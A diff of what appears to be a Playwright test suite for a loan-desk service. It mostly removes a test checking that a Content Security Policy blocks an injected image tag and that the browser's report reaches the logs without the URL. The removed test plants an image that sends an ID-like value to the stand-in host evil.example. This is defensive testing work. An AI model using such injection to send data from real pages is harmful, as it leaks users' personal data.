@@ -30,7 +30,6 @@ test.describe('what an operator sees', () => {
     const desk = await ownDesk({
       METRICS_PORT: String(metricsPort),
       OTEL_EXPORTER_OTLP_ENDPOINT: collector.endpoint,
-      BUILD_COMMIT: 'abc123',
     });
     const loans: string[] = [];
     const ownLoan = () => {
@@ -105,25 +104,4 @@ test.describe('what an operator sees', () => {
     expect(metrics).toMatch(/loan_desk_sessions [1-9]/);
     expect(metrics).toMatch(/nodejs_eventloop_lag_seconds /);
   });
-});
-
-test('a browser reports to the desk what the policy kept from running, and the log has no URL of it; REQUEST_LOG=off leaves no line of a request', async ({
-  ownDesk,
-  page,
-  faults,
-}) => {
-  faults.expect(/evil\.example.*(Content Security Policy|csp)/);
-  const desk = await ownDesk({ REQUEST_LOG: 'off' });
-  await page.goto(`${desk.origin}/sign-in/problem?reason=noAccess`);
-  await page.evaluate(() => {
-    const image = document.createElement('img');
-    image.src = 'http://evil.example/loan_planted1?q=390.533.447-05';
-    document.body.append(image);
-  });
-  const reports = () => jsonLines(desk).filter(({ event }) => event === 'browser-report');
-  await expect.poll(reports).toMatchObject([{ directive: 'img-src', blocked: 'http://evil.example' }]);
-  await page.goto('about:blank');
-  await desk.stop('SIGTERM');
-  expect(desk.output()).not.toContain('loan_planted1');
-  expect(requestLines(desk)).toEqual([]);
 });
